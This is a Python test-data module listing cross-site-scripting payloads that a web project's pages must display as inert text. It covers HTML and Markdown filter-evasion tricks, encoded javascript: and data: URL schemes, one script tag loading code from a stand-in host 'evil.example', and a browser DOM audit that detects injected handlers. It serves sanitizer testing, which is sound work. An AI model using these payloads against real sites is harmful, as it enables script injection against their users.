"""Script-injection payloads every page must show as harmless text.

Written for this project from the well-known families of filter evasion (script and event
attributes in odd spellings, dangerous URL schemes in every encoding, markup that breaks
out of attributes, textareas and titles, SVG and MathML tricks) and from Markdown's own
ways to make a link or an image. Each one, if it ran, would call alert().
"""

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert`1`>",
    "<img/src/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<table background="javascript:alert(1)">',
    "<x onclick=alert(1) style=display:block>click</x>",
    "<div onmouseover=alert(1)>hover</div>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=`javascript:alert(1)`>",
    '<a href="vbscript:msgbox(1)">x</a>',
    "<template><script>alert(1)</script></template>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
]

MARKDOWN = [
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "**<img src=x onerror=alert(1)>**",
    "> <svg onload=alert(1)>",
    '- <a href="javascript:alert(1)">x</a>',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '![x](x" onerror="alert(1))',
    '[x](https://example.com" onmouseover="alert(1))',
    '[x](#" onclick="alert(1))',
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x](<javascript:alert(1)>)",
    "{{ 7*7 }} {% debug %}",
]

# Dangerous URL schemes, spelled the ways browsers still understand.
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "java%0ascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]

URL_CONTEXTS = [
    '<a href="{url}">x</a>',
    "[x]({url})",
    "![x]({url})",
    "[x][r]\n\n[r]: {url}",
]

PAYLOADS = HTML + MARKDOWN + [c.format(url=u) for u in SCHEMES for c in URL_CONTEXTS]

# What a page's DOM must not contain, whatever was typed: checked in the browser.
DOM_AUDIT = """() => {
  const bad = [];
  const schemes = /^\\s*(javascript|vbscript|data:text\\/html)/i;
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith("on")) bad.push(el.tagName + " " + name);
      if (["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"].includes(name)
          && (schemes.test(attr.value) || name === "srcdoc")) bad.push(el.tagName + " " + name + "=" + attr.value);
    }
    if (el.tagName === "SCRIPT" && !(el.src || "").includes("/static/")) bad.push("inline script");
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "META"].includes(el.tagName) && el.closest("main")) bad.push(el.tagName);
  }
  return bad;
}"""
